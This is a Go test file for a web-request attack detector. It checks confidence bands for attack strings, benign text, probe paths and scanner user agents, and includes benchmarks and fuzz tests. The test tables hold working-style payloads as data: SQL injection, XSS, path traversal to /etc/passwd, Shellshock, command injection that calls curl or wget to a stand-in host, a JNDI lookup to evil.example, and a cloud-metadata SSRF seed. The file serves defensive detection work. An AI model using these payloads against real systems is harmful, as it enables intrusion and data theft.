package detect_test

import (
	"fmt"
	"strings"
	"testing"

	"bartizan/internal/detect"
	"bartizan/internal/request"
	"bartizan/internal/signal"
	"bartizan/internal/wordlist"
)

// best returns the strongest band of a kind that a value gets at a place.
func best(t testing.TB, in request.Location, key, text string, kind signal.Kind) (signal.Band, bool) {
	t.Helper()
	d := newDetector(t)
	var r request.Request
	d.Body(&r, &request.Value{In: in, Key: key, Text: text})
	return bandOf(r.Signals, kind)
}

func bandOf(signals []signal.Signal, kind signal.Kind) (band signal.Band, found bool) {
	for _, s := range signals {
		if s.Kind == kind {
			band, found = max(band, s.Band), true
		}
	}
	return band, found
}

func TestAttacks(t *testing.T) {
	tests := []struct {
		kind signal.Kind
		band signal.Band // at least
		text string
	}{
		{signal.SQLInjection, signal.Certain, "1' UNION SELECT password FROM users--"},
		{signal.SQLInjection, signal.Certain, "1' or '1'='1"},
		{signal.SQLInjection, signal.Certain, "1 OR 1=1"},
		{signal.SQLInjection, signal.Certain, "x'; DROP TABLE users; --"},
		{signal.SQLInjection, signal.Certain, "1;WAITFOR DELAY '0:0:5'--"},
		{signal.SQLInjection, signal.Certain, "-1/**/union/*!50000select*/1,2,3"},
		{signal.SQLInjection, signal.Certain, "1' and sleep(5)='0"},
		{signal.SQLInjection, signal.Certain, "%2527%20or%201%253D1--"},
		{signal.SQLInjection, signal.Likely, "admin'--"},
		{signal.XSS, signal.Certain, "<script>alert(1)</script>"},
		{signal.XSS, signal.Certain, "\"><ScRiPt src=//x></script>"},
		{signal.XSS, signal.Certain, "<img src=x onerror=alert(1)>"},
		{signal.XSS, signal.Certain, "<svg/onload=alert`1`>"},
		{signal.XSS, signal.Certain, `" onmouseover="alert(1)`},
		{signal.XSS, signal.Certain, "<a href=\"javascript:alert(1)\">x</a>"},
		{signal.XSS, signal.Certain, "%3Cscript%3Ealert(1)%3C/script%3E"},
		{signal.XSS, signal.Certain, "&lt;script&gt;alert(1)&lt;/script&gt;"},
		{signal.XSS, signal.Likely, "<iframe src=//evil.example>"},
		{signal.PathTraversal, signal.Certain, "../../../../etc/passwd"},
		{signal.PathTraversal, signal.Certain, `..\..\windows\win.ini`},
		{signal.PathTraversal, signal.Certain, "..%c0%af..%c0%afetc/passwd"},
		{signal.PathTraversal, signal.Certain, "....//....//....//etc/passwd"},
		{signal.PathTraversal, signal.Certain, "/etc/passwd"},
		{signal.PathTraversal, signal.Likely, "php://filter/convert.base64-encode/resource=index"},
		{signal.CommandInjection, signal.Certain, "127.0.0.1; cat /etc/passwd"},
		{signal.CommandInjection, signal.Certain, "x|id"},
		{signal.CommandInjection, signal.Certain, "$(curl http://evil.example/x)"},
		{signal.CommandInjection, signal.Certain, "a;cat${IFS}/etc/passwd"},
		{signal.CommandInjection, signal.Certain, "() { :;}; /bin/bash -c id"},
		{signal.CommandInjection, signal.Certain, "&& /usr/bin/wget http://x"},
		{signal.JNDILookup, signal.Certain, "${jndi:ldap://evil.example/a}"},
		{signal.ServerInclude, signal.Certain, "<!--#exec cmd=\"ls\"-->"},
		{signal.TemplateInjection, signal.Likely, "{{7*7}}"},
		{signal.CodeInjection, signal.Likely, "<?php system('id');"},
		{signal.Deserialisation, signal.Likely, "gASVyQAAAAAAAACMCGJ1aWx0aW5zlIwEZXZhbA=="},
	}
	for _, tt := range tests {
		if got, found := best(t, request.InQuery, "q", tt.text, tt.kind); !found || got < tt.band {
			t.Errorf("%q: %v is %v (found %v); want at least %v", tt.text, tt.kind, got, found, tt.band)
		}
	}
}

func TestBenignIsAtMostHint(t *testing.T) {
	for _, text := range []string{
		"O'Brien", "Rock'n'roll", "don't select all and drop it", "the union select committee", "Tom & Jerry", "cats & dogs; find them",
		"I <3 you", "a < b and c > d", "5 > 3", "C++; rm the old one", "where is my order?", "1-2", "2024-01-01", "-5", "a=b", "50% off", "100%25",
		"SELECT * FROM cpu WHERE time > now() - 1h", "id eq 5 and name eq 'x'", "name like 'a%'", `{"$gt": 5}`, "../images/logo.png", "./a/../b",
		"/usr/local/share", "Mozilla/5.0 (X11; Linux x86_64)", "https://example.com/?a=1&b=2", "javascript", "on=1", "a|b", "yes/no", "#tag", "--verbose", "/* comment */",
		"user@example.com", "`code`", "$100", "${HOME}", "{{name}}", "#{id}", "import from 'x'", "<p>Hello <b>world</b></p>", "\"quoted\" text", "'single'", "it's 5 o'clock", "R&D", "AT&T",
		"Use `ls -la` to list the files of a directory and then pipe it to grep so that only what you want to see remains on the screen",
		"To test for SQL injection, people type ' or 1=1 -- into the login form, and if the page lets them in then the query was built by joining strings",
	} {
		for _, in := range []request.Location{request.InQuery, request.InJSON, request.InForm} {
			d := newDetector(t)
			var r request.Request
			d.Body(&r, &request.Value{In: in, Key: "q", Text: text})
			for _, s := range r.Signals {
				if s.Band > signal.Hint {
					t.Errorf("%v %q: %v %v; want at most a hint", in, text, s.Kind, s.Band)
				}
			}
		}
	}
}

func head(d interface{ Head(*request.Request) }, target string, fields ...request.Field) *request.Request {
	r := &request.Request{Head: request.Head{Method: "GET", Target: target, Fields: fields}}
	r.Parse()
	d.Head(r)
	return r
}

func TestProbePath(t *testing.T) {
	d := newDetector(t)
	tests := []struct {
		target string
		found  bool
		band   signal.Band
	}{
		{"/.env", true, signal.Likely},
		{"/.git/config", true, signal.Likely},
		{"/app/.ENV", true, signal.Likely},
		{"/.env.local", true, signal.Likely},
		{"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", true, signal.Likely},
		{"/wp-login.php", true, signal.Hint},
		{"/package.json", true, signal.Hint},
		{"/repos/a/b/contents/.gitignore", true, signal.Hint},
		{"/dump.sql", true, signal.Hint},
		{"/.well-known/openid-configuration", false, 0},
		{"/users/17", false, 0},
		{"/environment", false, 0},
		{"/", false, 0},
	}
	for _, tt := range tests {
		band, found := bandOf(head(d, tt.target).Signals, signal.ProbePath)
		if found != tt.found || band != tt.band {
			t.Errorf("%s: probe-path %v, %v; want %v, %v", tt.target, found, band, tt.found, tt.band)
		}
	}
}

// The files of one application are one thing that scanners look for, in any letter case.
func TestProbePathNamesTheThing(t *testing.T) {
	d := newDetector(t)
	name := func(target string) uint64 {
		for _, s := range head(d, target).Signals {
			if s.Kind == signal.ProbePath {
				return s.Digest
			}
		}
		t.Fatalf("%s: no probe-path", target)
		return 0
	}
	if name("/phpmyadmin/js/a.js") != name("/x/PHPMyAdmin/themes/b.css") || name("/a/dump.sql") != name("/dump.SQL") {
		t.Error("one application, two names; want one")
	}
	if name("/phpmyadmin/") == name("/adminer.php") {
		t.Error("two applications, one name; want two")
	}
}

func TestScannerAgent(t *testing.T) {
	d := newDetector(t)
	for ua, want := range map[string]bool{
		"sqlmap/1.8.2#stable (https://sqlmap.org)":              true,
		"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:001)": true,
		"Mozilla/5.0 (compatible; Nmap Scripting Engine)":       true,
		"Mozilla/5.0 (Hydra)":                                   true,
		"Mozilla/5.0 (X11; HydraOS) Hydra":                      false,
		"VegasApp/2.0":                                          false,
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36": false,
		"curl/8.5.0": false,
		"":           false,
	} {
		if _, got := bandOf(head(d, "/", request.Field{Name: "User-Agent", Value: ua}).Signals, signal.ScannerAgent); got != want {
			t.Errorf("scanner-agent of %q = %v; want %v", ua, got, want)
		}
	}
}

func TestSignalFields(t *testing.T) {
	d := newDetector(t)
	r := head(d, "/a?password=1'+or+'1'='1&id=1'+or+'1'='1&id=2'+or+'2'='2", request.Field{Name: "Authorization", Value: "Bearer ' or 1=1--"})
	got := map[string]string{}
	for _, s := range r.Signals {
		if s.Kind != signal.SQLInjection || s.Digest == 0 {
			t.Errorf("signal %+v; want sql-injection with a digest", s)
		}
		if _, ok := got[s.Where]; ok {
			t.Errorf("two signals at %q; want one", s.Where)
		}
		got[s.Where] = s.Note
	}
	for where, note := range map[string]string{"query:password": "~", "query:id": "1' or '1'='1", "header:Authorization": "~"} {
		if got[where] != note {
			t.Errorf("note at %q = %q; want %q", where, got[where], note)
		}
	}
}

func TestPaddingHidesNothing(t *testing.T) {
	for _, pad := range []string{strings.Repeat("A", 30000), strings.Repeat("A", 8190), strings.Repeat(" ", 20000), strings.Repeat("1", 2500)} {
		if band, found := best(t, request.InJSON, "q", pad+"' or '1'='1", signal.SQLInjection); !found || band < signal.Likely {
			t.Errorf("behind %d bytes: sql-injection %v, %v; want at least likely", len(pad), found, band)
		}
	}
}

func TestSignalsAreBounded(t *testing.T) {
	d := newDetector(t)
	var q strings.Builder
	for i := range 200 {
		fmt.Fprintf(&q, "p%d=1'+or+'1'='1&", i)
	}
	r := head(d, "/?"+q.String())
	if len(r.Signals) != 16 {
		t.Errorf("%d signals; want 16", len(r.Signals))
	}
}

const benignJSON = `{"order":{"id":"7f3c2a","customer":{"name":"Ann O'Hara","email":"ann@example.com","note":"Please ring twice; the dog is loud & friendly."},` +
	`"items":[{"sku":"AB-1","title":"Garden chair (white)","price":19.95,"qty":2},{"sku":"AB-2","title":"Table 120x80","price":89.0,"qty":1}],"paid":true,"url":"https://example.com/a?b=1&c=2"}}`

func benignRequest() *request.Request {
	r := &request.Request{Head: request.Head{Method: "POST", Target: "/api/v1/orders/17?page=2&sort=name&q=garden+chair", Fields: []request.Field{
		{Name: "Host", Value: "api.example.com"}, {Name: "User-Agent", Value: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"},
		{Name: "sec-ch-ua", Value: `"Chromium";v="126", "Not:A-Brand";v="24"`}, {Name: "Accept", Value: "application/json, text/plain, */*"}, {Name: "Accept-Language", Value: "en-GB,en;q=0.9"},
		{Name: "Cookie", Value: "session=0b0f7a52; theme=dark"}, {Name: "Content-Type", Value: "application/json"},
	}}}
	return r
}

func TestBenignAllocates(t *testing.T) {
	d, r, sc := newDetector(t), benignRequest(), new(request.Scratch)
	visit := func(v *request.Value) bool { d.Body(r, v); return true }
	run := func() {
		r.Parse()
		d.Head(r)
		request.WalkBody("application/json", []byte(benignJSON), true, sc, visit)
	}
	run()
	if len(r.Signals) != 0 {
		t.Fatalf("benign request has signals: %v", r.Signals)
	}
	body := []byte(benignJSON)
	n := testing.AllocsPerRun(200, func() {
		r.Parse()
		d.Head(r)
		request.WalkBody("application/json", body, true, sc, visit)
	})
	if n > 0 && !detect.RaceDetector {
		t.Errorf("judging a benign request allocates %v times; want 0", n)
	}
}

func BenchmarkHead(b *testing.B) {
	d, r := newDetector(b), benignRequest()
	b.ReportAllocs()
	for b.Loop() {
		r.Parse()
		d.Head(r)
	}
}

func BenchmarkBody(b *testing.B) {
	bodies := map[string]string{
		"json 0.4KB": benignJSON,
		"json 16KB":  "[" + strings.Repeat(benignJSON+",", 40) + "1]",
		"hostile":    `["` + strings.Repeat("' or <a on ../etc/ ;cat $(", 2400) + `"]`,
		"dots":       `["` + strings.Repeat("../", 20000) + `"]`,
		"tags":       `["` + strings.Repeat("<a ", 20000) + `"]`,
		"quote run":  `["` + strings.Repeat("'", 60000) + `"]`,
		"or calls":   `["` + strings.Repeat("or a( ", 10000) + `"]`,
		"braces":     `["` + strings.Repeat("{{a ", 15000) + `"]`,
		"handlers":   `["` + strings.Repeat("<a on on on", 5500) + `"]`,
		"semicolons": `["''` + strings.Repeat(";cat a ", 8500) + `"]`,
		"unions":     `["` + strings.Repeat("union select a ", 4000) + `"]`,
		"escapes":    `["` + strings.Repeat("%25%32%35", 6500) + `"]`,
		"quotes":     "[" + strings.Repeat(`"' or",`, 8000) + "1]",
	}
	d := newDetector(b)
	for name, text := range bodies {
		body := []byte(text)
		b.Run(name, func(b *testing.B) {
			r, sc := new(request.Request), new(request.Scratch)
			visit := func(v *request.Value) bool { d.Body(r, v); return true }
			b.SetBytes(int64(len(body)))
			b.ReportAllocs()
			for b.Loop() {
				r.Signals = r.Signals[:0]
				request.WalkBody("application/json", body, true, sc, visit)
			}
		})
	}
}

func FuzzValue(f *testing.F) {
	for _, s := range []string{"' or 1=1--", "<script>", "../../etc/passwd", ";cat /etc/passwd", "${jndi:", "{{7*7}}", "%u0027", "&#x27;", "\xc0", "<on=", "/*!", "[$ne]", "-- "} {
		f.Add(uint8(3), "q", s)
	}
	d := newDetector(f)
	f.Fuzz(func(t *testing.T, in uint8, key, text string) {
		var r request.Request
		d.Body(&r, &request.Value{In: request.Location(in) % request.Locations, Key: key, Text: text})
		for _, s := range r.Signals {
			if len(s.Where) > 96 || len(s.Note) > 96 || s.Kind == signal.None {
				t.Errorf("signal out of bounds: %+v", s)
			}
		}
	})
}

// FuzzGate holds the gate to the oracle.
func FuzzGate(f *testing.F) {
	for _, s := range []string{"' or 1=1--", "<script>", "../../etc/passwd", ";cat /etc/passwd", "${jndi:", "{{7*7}}", "order by 8", "java.io.File", "O:8:\"a\":1", "__proto__", "http://0x7f000001/", "*)(uid=*", "if exist a echo b", "Get-Item", "a::text", "1 union select 2", "alert`1`", "169.254.169.254", "\xc0\xae\xc0\xae/", "0x2e0x2e0x2f", "![][[]]"} {
		f.Add(uint8(3), "q", s)
	}
	lists, err := wordlist.Lists()
	if err != nil {
		f.Fatal(err)
	}
	d, oracle := detect.New(1, lists), detect.Oracle(1, lists)
	f.Fuzz(func(t *testing.T, in uint8, key, text string) {
		v := request.Value{In: request.Location(in) % request.Locations, Key: key, Text: text}
		var got, want request.Request
		d.Body(&got, &v)
		oracle.Body(&want, &v)
		if g, w := verdicts(got.Signals), verdicts(want.Signals); g != w {
			t.Errorf("%v %q %q: got %s; want %s, as without the gate", v.In, key, text, g, w)
		}
	})
}
